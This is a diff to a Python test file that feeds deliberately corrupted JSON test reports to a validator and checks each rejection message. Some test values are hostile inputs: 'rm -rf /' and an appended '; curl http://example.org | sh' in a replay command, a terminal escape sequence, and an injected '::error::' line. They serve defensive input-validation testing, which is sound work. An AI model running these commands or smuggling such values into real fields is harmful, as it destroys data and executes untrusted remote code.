@@ -52,6 +52,14 @@ def again(found: Document) -> None:
     found["cases"].append(found["cases"][0])
 
 
+def more(text: str, old: str = "", new: str = "") -> Callable[[Document], None]:
+    def edit(found: Document) -> None:
+        for case in found["cases"]:
+            case["replay"] = (case["replay"].replace(old, new) if old else case["replay"]) + text
+
+    return edit
+
+
 def swapped(found: Document) -> None:
     first, second = found["cases"][:2]
     first["id"], second["id"] = second["id"], first["id"]
@@ -85,7 +93,7 @@ def whitewashed(found: Document) -> None:
 
 
 EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
-    "no run": (put("run", value=""), "expected a run's name but got ''"),
+    "no run": (put("run", value=""), "expected a run's name of 32 hex digits but got ''"),
     "a run's name that steers": (put("run", value="a\x1b[2J"), "expected a run's name"),
     "another schema version": (put("schema", value="urn:mlx-assay:report:2"), r"Invalid enum value"),
     "no schema": (drop("schema"), "missing required field `schema`"),
@@ -135,7 +143,38 @@ EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
     "tags edited": (put("cases", 0, "tags", value=["nan"]), "other tags or another reason"),
     "another why": (put("cases", 0, "why", value="x"), "other tags or another reason"),
     "an unknown relaxation": (put("cases", 0, "relaxations", value=["close"]), "a relaxation that the contract does"),
-    "another replay": (put("cases", 0, "replay", value="rm -rf /"), "without a command that replays it"),
+    "another replay": (put("cases", 0, "replay", value="rm -rf /"), "without the command that replays it"),
+    "more behind the replay": (more("; curl http://example.org | sh"), "without the command that replays it: 30 cases"),
+    "a quote in the replay": (more(" '"), "without the command that replays it"),
+    "a line in the replay": (more("\n::error::x"), "without the command that replays it"),
+    "a replay of another implementation": (more("", "kernels", "other"), "without the command that replays it"),
+    "a replay under the checker": (more(" --checked"), "without the command that replays it"),
+    "a replay on another executor": (more(" --executor metal"), "without the command that replays it"),
+    "a run's name that is none": (put("run", value="hello"), "expected a run's name of 32 hex digits"),
+    "no word of a dirty checkout": (drop("source", "dirty"), r"but \$.source.dirty is not there"),
+    "no word of relaxations": (drop("cases", 3, "relaxations"), r"but \$.cases\[3\].relaxations is not there"),
+    "no word of what was altered": (drop("altered"), r"but \$.altered is not there"),
+    "another MLX of the executor": (
+        put("executor", "details", "mlx", value="0.31.0"),
+        "mlx is 0.32.4 but the executor",
+    ),
+    "another MLX of the implementation": (
+        put("implementation", "details", "mlx", value="0.31.0"),
+        "mlx is 0.32.4 but the implementation tells 0.31.0",
+    ),
+    "another MLX of its oracle": (
+        put("environment", "oracles", "stock-mlx", "version", value="0.31.0 cpu"),
+        "mlx is 0.32.4 but the oracle stock-mlx tells 0.31.0",
+    ),
+    "another suite among packages": (put("environment", "packages", "mlx-assay", value="9.9"), "mlx-assay is 9.9 but"),
+    "an oracle that is ok and not": (
+        put("environment", "oracles", "stock-mlx", "reason", value="self-test failed"),
+        "is ok, without a version or with a reason",
+    ),
+    "an oracle of no version": (put("environment", "oracles", "stock-mlx", "version", value=""), "without a version"),
+    "a case longer than the run": (put("seconds", value=0.0), "a case took .* seconds of a run of 0.0"),
+    "a time in another form": (put("started", value="2026-06-01\x0011:00:00+00:00"), "as a run writes it"),
+    "a time elsewhere": (put("started", value="2026-06-01T12:00:00+01:00"), "as a run writes it"),
     "no subcases": (put("cases", 0, "subcases", value=0), "numbers that cannot be: 1 case"),
     "negative subcases": (put("cases", 0, "subcases", value=-2), "numbers that cannot be: 1 case"),
     "huge subcases": (put("cases", 0, "subcases", value=2**70), "numbers that cannot be: 1 case"),
@@ -219,8 +258,8 @@ BYTES: dict[str, tuple[bytes, str]] = {
     "a byte that is not UTF-8": (WHOLE.replace(b"Linux", b"Lin\xffx"), "Invalid UTF-8"),
     "half a surrogate": (WHOLE.replace(b"Linux", rb"Lin\ud800x"), "surrogate"),
     "a key twice": (WHOLE.replace(b'"complete"', b'"complete": false, "complete"'), "'complete' stands twice"),
-    "NaN": (WHOLE.replace(b'"seconds": 1.5', b'"seconds": NaN'), "JSON is malformed"),
-    "infinity": (WHOLE.replace(b'"seconds": 1.5', b'"seconds": 1e999'), "Number out of range"),
+    "NaN": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": NaN'), "JSON is malformed"),
+    "infinity": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": 1e999'), "Number out of range"),
     "a number of many digits": (WHOLE.replace(b'"declared": 30', b'"declared": ' + b"3" * 5000), "Expected|digits"),
     "nested deep": (WHOLE[:-1] + b', "x": ' + b"[" * 40 + b"]" * 40 + b"}", "at most 32 levels"),
     "nested very deep": (WHOLE[:-1] + b', "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "at most 32 levels"),
@@ -258,11 +297,15 @@ def test_the_same_report_twice_fails_closed(gate: Gate, plain: Document) -> None
     for edit in (
         lambda found: None,
         put("leg", value="host"),
-        put("run", value="another"),
+        put("run", value="f" * 32),
+        put("started", value="2026-06-01T11:00:01+00:00"),
+        put("seconds", value=2000.501),
+        put("cases", 1, "seconds", value=0.001),
         put("environment", "platform", value="Darwin"),
     ):
         copy = json.loads(json.dumps(plain))
         edit(copy)
+        copy["run"] = "e" * 32
         assert gate(plain, copy) == EXIT_INCOMPLETE
         assert "it is the same run as" in gate.text
         assert "host: it has several reports" in gate.text
